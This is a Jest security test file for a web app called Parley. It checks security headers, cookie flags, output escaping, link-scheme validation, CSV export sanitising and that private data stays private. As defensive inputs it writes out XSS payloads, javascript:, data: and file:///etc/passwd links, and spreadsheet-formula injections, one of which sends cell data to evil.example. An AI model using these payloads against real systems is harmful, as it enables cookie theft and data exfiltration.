import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { SessionResponse } from '@parley/contracts';
import { expectNothingWritten, expectProblem } from '../support/expectations';
import { newDelegate, newOrganisation, newPerson } from '../support/factories';
import { ApiClient } from '../support/http-client';
import { startTestApp, type TestApp } from '../support/test-app';
import { insertChairTerm, newWorkingGroup } from '../support/working-group-factories';

jest.setTimeout(60_000);

const WEB = join(__dirname, '../../dist/web');

/** The Content-Security-Policy as a map of directive → sources. */
function csp(res: { headers: Headers }): Record<string, string[]> {
  const header = res.headers.get('content-security-policy');
  if (!header) return {};
  return Object.fromEntries(
    header
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name, sources]),
  );
}

/**
 * Headers every answer carries, HTML and API alike: a CSP that lets no inline or foreign script run
 * (the stored-XSS tests in tests/browser/xss.test.ts show it holding in chromium), no framing, no
 * MIME sniffing; and what user-written text may do to the pages and files the server writes itself.
 */
describe('security headers and server-written pages', () => {
  let t: TestApp;
  let asset: string;

  beforeAll(async () => {
    if (!existsSync(join(WEB, 'index.html'))) throw new Error('Build the web app first: npx nx run web:build');
    asset = /src="(\/assets\/[^"]+\.js)"/.exec(readFileSync(join(WEB, 'index.html'), 'utf8'))![1];
    t = await startTestApp({ serveWeb: true });
  });
  afterAll(() => t?.close());

  it('sets a strict CSP, nosniff, no framing and no X-Powered-By on HTML, assets, JSON, problem+json and exports', async () => {
    const p = await newPerson(t.baseUrl);
    const c = new ApiClient(t.baseUrl);
    const answers = {
      'HTML /': await c.request('GET', '/', undefined, { accept: 'text/html' }),
      'HTML /people/:id': await c.request('GET', `/people/${p.id}`, undefined, { accept: 'text/html' }),
      'HTML unknown route': await c.request('GET', '/no/such/page', undefined, { accept: 'text/html' }),
      asset: await c.get(asset),
      JSON: await c.get('/api/health'),
      'problem+json': await c.get('/api/people/00000000-0000-0000-0000-000000000000'),
      '401': await c.get('/api/me'),
      'JSON Lines export': await c.get('/api/audit/export.jsonl'),
      'CSV export': await c.get('/api/chair-terms.csv'),
      OpenAPI: await c.get('/api/docs-json'),
    };
    for (const [what, res] of Object.entries(answers)) {
      const policy = csp(res);
      expect({ what, status: res.status < 500, csp: res.headers.get('content-security-policy') !== null }).toEqual({ what, status: true, csp: true });
      expect({
        what,
        'default-src': policy['default-src'],
        'script-src': policy['script-src'],
        'object-src': policy['object-src'],
        'frame-ancestors': policy['frame-ancestors'],
        'base-uri': policy['base-uri'],
      }).toEqual({
        what,
        'default-src': ["'self'"],
        'script-src': ["'self'"],
        'object-src': ["'none'"],
        'frame-ancestors': ["'none'"],
        'base-uri': ["'self'"],
      });
      expect({
        what,
        nosniff: res.headers.get('x-content-type-options'),
        poweredBy: res.headers.get('x-powered-by'),
        frame: res.headers.get('x-frame-options'),
        // DENY, as frame-ancestors 'none' says (SAMEORIGIN contradicted it for browsers reading only this header).
      }).toEqual({ what, nosniff: 'nosniff', poweredBy: null, frame: 'DENY' });
    }
    expect(String(answers['HTML /'].headers.get('content-type'))).toContain('text/html');
    // No inline script in the page the server sends: the CSP would block it, so the app must not need one.
    expect(String(answers['HTML /'].body)).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/i);
    // Exports are downloads, never rendered as pages.
    expect(answers['CSV export'].headers.get('content-disposition')).toMatch(/^attachment/);
    expect(answers['JSON Lines export'].headers.get('content-disposition')).toMatch(/^attachment/);
  });

  it('session cookies are httpOnly (the CSRF one readable by the page, by design) and SameSite=Lax; answers carrying a token or the e-mail address are never stored (Cache-Control: no-store)', async () => {
    const p = await newPerson(t.baseUrl, { name: 'Cookie Person', email: 'cookie.person@example.org' });
    const res = await new ApiClient(t.baseUrl).post<SessionResponse>('/api/auth/login', { email: p.email, password: 'correct horse battery' });
    expect(res.status).toBe(200);
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect((await p.client.get('/api/me')).headers.get('cache-control')).toBe('no-store');
    const cookies = res.headers.getSetCookie();
    const session = cookies.find((c) => c.startsWith('parley_session='))!;
    const csrf = cookies.find((c) => c.startsWith('parley_csrf='))!;
    expect(session).toMatch(/;\s*HttpOnly/i);
    expect(session).toMatch(/;\s*SameSite=Lax/i);
    expect(csrf).not.toMatch(/HttpOnly/i);
    expect(csrf).toMatch(/;\s*SameSite=Lax/i);
  });

  it("titles written into the HTML by the server are escaped, and a name like $' or $& cannot splice the page into its own title", async () => {
    const name = `</title><script>window.__xss=1</script><img src=x onerror=alert(1)> $' $& $\``;
    const p = await newPerson(t.baseUrl, { name });
    const res = await new ApiClient(t.baseUrl).request('GET', `/people/${p.id}`, undefined, { accept: 'text/html' });
    const html = String(res.body);
    expect(res.status).toBe(200);
    expect(html.match(/<title>/g)).toHaveLength(1);
    expect(html).not.toContain('<script>window.__xss');
    expect(html).not.toContain('<img src=x');
    expect(/<title>([^<]*)<\/title>/.exec(html)![1]).toBe(
      `&lt;/title&gt;&lt;script&gt;window.__xss=1&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt; $&#39; $&amp; $\` · Parley`,
    );
    // The only scripts are the app's own files, as the build wrote them: zod's settings, then the app.
    const built = readFileSync(join(WEB, 'index.html'), 'utf8');
    const scripts = (page: string) => [...page.matchAll(/<script[^>]*>/g)].map((m) => /\bsrc="([^"]+)"/.exec(m[0])?.[1] ?? 'INLINE');
    expect(scripts(html)).toEqual(scripts(built));
    expect(scripts(html)).toEqual(['/zod-jitless.js', expect.stringMatching(/^\/assets\/index-[\w-]+\.js$/)]);
  });

  it('a malformed %-escape in a page URL is the generic page, not a 500', async () => {
    for (const path of ['/people/%E0%A4%A', '/working-groups/%', '/ballots/%ZZ', '/documents/%C0%AF'])
      expect([path, (await new ApiClient(t.baseUrl).request('GET', path, undefined, { accept: 'text/html' })).status]).toEqual([path, 200]);
  });
});

describe('hostile text in what the server writes', () => {
  let t: TestApp;
  beforeAll(async () => (t = await startTestApp()));
  afterAll(() => t?.close());

  it('an organisation website must be an http(s) address: javascript:, data: and vbscript: links are refused, nothing written', async () => {
    const d = await newDelegate(t.baseUrl);
    for (const website of [
      'javascript:alert(document.cookie)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'vbscript:msgbox(1)',
      'file:///etc/passwd',
    ]) {
      const res = await expectNothingWritten(t.dataSource, () =>
        d.client.post('/api/organisations', { name: `Org ${website.slice(0, 8)}`, stakeholderGroup: 'civil-society', subtype: 'ngo', website }),
      );
      expectProblem(res, 400, { fields: ['website'] });
    }
    expect((await newOrganisation(d.client, { website: 'https://example.org/about' })).website).toBe('https://example.org/about');
  });

  it('CSV exports neutralise spreadsheet formulas in names (a chair named =HYPERLINK(...) is text, not a formula)', async () => {
    const chair = await newPerson(t.baseUrl, { name: `=HYPERLINK("http://evil.example/?"&A1,"Click")` });
    const org = await newOrganisation(chair.client, { name: '@SUM(1+1)*cmd|calc Ministry', stakeholderGroup: 'government', subtype: 'national' });
    expect((await chair.client.post('/api/me/affiliations', { organisationId: org.id, title: '+Delegate', startDate: '2020-01-01' })).status).toBe(201);
    const group = await newWorkingGroup(chair.client);
    const me = await chair.client.get('/api/me');
    await insertChairTerm(t.dataSource, group.id, chair.id, me.body.currentSnapshot);
    const csv = String((await new ApiClient(t.baseUrl).get(`/api/chair-terms.csv?workingGroup=${group.id}`)).body);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csv).toContain(`'@SUM(1+1)*cmd|calc Ministry`);
    for (const line of csv.split('\r\n').slice(1)) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
  });

  it('no e-mail address or password hash leaves the server in public answers: profiles, members, the audit log and its export', async () => {
    const d = await newDelegate(t.baseUrl);
    const group = await newWorkingGroup(d.client);
    const anon = new ApiClient(t.baseUrl);
    const hash = (await t.dataSource.query(`SELECT password_hash FROM people WHERE id = $1`, [d.id]))[0].password_hash as string;
    const publicAnswers = [
      await anon.get(`/api/people/${d.id}`),
      await anon.get(`/api/working-groups/${group.id}`),
      await anon.get(`/api/working-groups/${group.id}/members`),
      await anon.get('/api/audit?scope=platform'),
      await anon.get(`/api/audit?scope=wg:${group.id}`),
      await anon.get('/api/audit/export.jsonl'),
      await anon.get('/api/organisations'),
    ];
    for (const res of publicAnswers) {
      const text = typeof res.body === 'string' ? res.body : JSON.stringify(res.body);
      expect(res.status).toBe(200);
      expect(text).not.toContain(d.email);
      expect(text).not.toContain(hash);
      expect(text).not.toMatch(/\$argon2/);
    }
  });

  it('a registration cannot make itself a steward or set other fields (unknown fields are refused, nothing written)', async () => {
    await newPerson(t.baseUrl); // not the first account
    const res = await expectNothingWritten(t.dataSource, () =>
      new ApiClient(t.baseUrl).post('/api/auth/register', { name: 'Sneaky', email: 'sneaky@example.org', password: 'correct horse battery', isSteward: true }),
    );
    expectProblem(res, 400);
  });
});
